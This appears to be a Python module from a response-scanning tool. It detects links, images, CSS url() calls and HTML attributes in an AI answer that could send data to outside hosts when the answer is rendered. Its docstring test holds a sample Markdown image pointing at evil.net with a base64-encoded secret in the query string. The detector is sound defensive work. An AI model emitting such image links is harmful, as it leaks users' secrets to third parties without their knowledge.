"""Links and images: addresses by which an answer could carry something away as soon as it is shown.

- Found wherever they may stand: Markdown destinations and reference definitions, autolinks, attributes of HTML,
  ``url()`` of CSS, bare addresses. Entities, tabs and backslashes in them are read as a browser reads them.
- Only the address is taken out; the words of the link stay. What is *not* held back: the text of a link, for it goes
  nowhere.
- ``link.script``: what runs (``javascript:``). ``link.lookalike``: a host that passes itself off as another.
  ``link.payload``: data in an address. ``link.image``: a remote image of a host that is not on the list, where there
  is one. ``link.remote-image`` and ``link.egress`` are for knowing: an image without a payload where no list is kept,
  a link off it.

>>> judge = link_judge(())
>>> [f.rule for f in judge(Region("![logo", "](https://evil.net/p.png?d=c2VjcmV0IGtleSBpcyBodW50ZXIy)", ""))]
['link.payload']
>>> judge(Region("", "https://docs.python.org/3/library/re.html?highlight=match", ""))
[]
"""

import re
from typing import Final

from ostiary.inspection.response.addresses import Address, address_of
from ostiary.inspection.response.payloads import carries, carries_openly
from ostiary.inspection.response.regions import Find, Judge, Pattern, Region

_ATTRIBUTES: Final = "srcset|src|href|poster|background|formaction|action|data-src"
_LOADED: Final = frozenset({"src", "srcset", "poster", "background", "data-src"})  # fetched without a click
_ADDRESS: Final = r"(?:https?|wss?|ftp):[/\\]{1,3}|www\."
_VIABLE: Final = (
    rf"(?i)(?:{_ADDRESS})[^\s<>\"`]+",
    r"\]\([ \t\n]{0,4}<[^<>\n]*>",
    r"\]\([ \t\n]{0,4}[^\s)<][^\s)]*(?:\)[^\s)]+)?",
    r"\]:[ \t]{0,4}\n?[ \t]{0,4}[^\s]+",
    rf"(?i)(?:{_ATTRIBUTES})[ \t\n]{{0,3}}=[ \t\n]{{0,3}}(?:\"[^\"<>]*\"|'[^'<>]*'|[^\s\"'<>]+)",
    rf"(?i)(?:{_ATTRIBUTES})[ \t\n]{{0,3}}=[ \t\n]{{0,3}}[\"']?(?:javascript|vbscript|data):[^\"'\s]*",
    r"(?i)url\([ \t]{0,3}[^)\s]*\)",
)
_BARE: Final = re.compile(rf"(?i)(?:{_ADDRESS})(?:(?!\]\()[^\s<>\"`])+")
_DESTINATION: Final = re.compile(r"\]\(\s{0,4}(?:<([^<>\n]*)>|([^\s<(](?:[^\s()]|\([^\s()]*\))*|(?=[^\s<])[^\s)]+))")
_DEFINITION: Final = re.compile(r"\]:[ \t]{0,4}\n?[ \t]{0,4}<?([^\s<>]+)")
_ATTRIBUTE: Final = re.compile(rf"(?i)({_ATTRIBUTES})\s{{0,3}}=\s{{0,3}}(?:\"([^\"<>]*)\"|'([^'<>]*)'|([^\s\"'<>]+))")
_PROGRAM: Final = re.compile(rf"(?i)(?:{_ATTRIBUTES})\s{{0,3}}=\s{{0,3}}[\"']?((?:javascript|vbscript|data):[^\"'\s]*)")
_STYLE: Final = re.compile(r"(?i)url\([ \t]{0,3}[\"']?([^)\s\"']*)")
_FETCHING: Final = re.compile(r"(?i)<(?:link|meta|object|embed|base|script|iframe)\b[^>]*$|@import\s{1,4}[\"']?$")
_INNER: Final = re.compile(r"!\[[^\]]*\]\([^)]*\)")
_IMAGE: Final = re.compile(r"!\[[^\]]*$")
_LINK: Final = re.compile(r"\[[^\]]*$")
_SEEN: Final = 160
_TRAILING: Final = ".,;:!?'\")]}*_"


def link_patterns(hosts: tuple[str, ...]) -> tuple[Pattern, ...]:
    """Return what to look for, where ``hosts`` may be pointed to."""
    judge = link_judge(hosts)
    return tuple(Pattern(viable, judge) for viable in _VIABLE)


def link_judge(hosts: tuple[str, ...]) -> Judge:
    """Return the judge of addresses, where ``hosts`` and their subdomains may be pointed to."""
    allowed = tuple(host.lower().strip(".") for host in hosts)

    def judge(region: Region) -> list[Find]:
        found = []
        for start, end, loaded in _places(region):
            rule = _rule(address_of(region.text[start:end]), allowed, loaded=loaded)
            if rule and end > start:
                found.append(Find(start, end, rule))
        return found

    return judge


def _places(region: Region) -> list[tuple[int, int, bool]]:
    """Return where addresses stand, and whether each is fetched without a click."""
    text = region.text
    places = [
        (*_trimmed(text, *match.span()), bool(_FETCHING.search(_ahead(region, match.start()))))
        for match in _BARE.finditer(text)
    ]
    for match in _DESTINATION.finditer(text):
        group = 1 if match[1] is not None else 2
        places.append((*match.span(group), _is_image(_ahead(region, match.start()))))
    for match in _DEFINITION.finditer(text):
        named = "![" in _ahead(region, match.start())  # by an image, it may be
        places += [(*match.span(1), named)]
    for match in _ATTRIBUTE.finditer(text):
        group = next(index for index in (2, 3, 4) if match[index] is not None)
        loaded = match[1].lower() in _LOADED or bool(_FETCHING.search(_ahead(region, match.start())))
        places.append((*match.span(group), loaded))
    places += [(*match.span(1), True) for match in _PROGRAM.finditer(text)]
    places += [(*match.span(1), True) for match in _STYLE.finditer(text)]
    once: dict[tuple[int, int], bool] = {}
    for start, end, loaded in places:
        once[start, end] = once.get((start, end), False) or loaded
    return [(start, end, loaded) for (start, end), loaded in once.items()]


def _ahead(region: Region, at: int) -> str:
    """Return what stands before a place in a region, as far as it matters."""
    return (region.before + region.text[max(at - _SEEN, 0) : at])[-_SEEN:]


def _is_image(before: str) -> bool:
    """Return whether ``before`` opens an image; where its beginning is out of sight, it may be one."""
    outside = _INNER.sub("", before)  # a picture that is itself the text of a link
    return bool(_IMAGE.search(outside)) or not _LINK.search(outside)


def _trimmed(text: str, start: int, end: int) -> tuple[int, int]:
    """Return the address without what a sentence puts behind it; a closing bracket that has its opening one stays."""
    surplus = text.count(")", start, end) - text.count("(", start, end)
    while end > start and text[end - 1] in _TRAILING:
        if text[end - 1] == ")":
            if surplus <= 0:
                break
            surplus -= 1
        end -= 1
    return start, end


def _rule(address: Address | None, allowed: tuple[str, ...], *, loaded: bool) -> str:
    """Return the rule that an address falls under; empty where it may stay."""
    if address is None or address.runs:
        return "link.script" if address else ""
    if not address.host or any(address.host == host or address.host.endswith(f".{host}") for host in allowed):
        return ""
    if address.lookalike:
        return "link.lookalike"
    if carries(address) if loaded else carries_openly(address):
        return "link.payload"
    if loaded:
        return "link.image" if allowed else "link.remote-image"
    return "link.egress" if allowed else ""
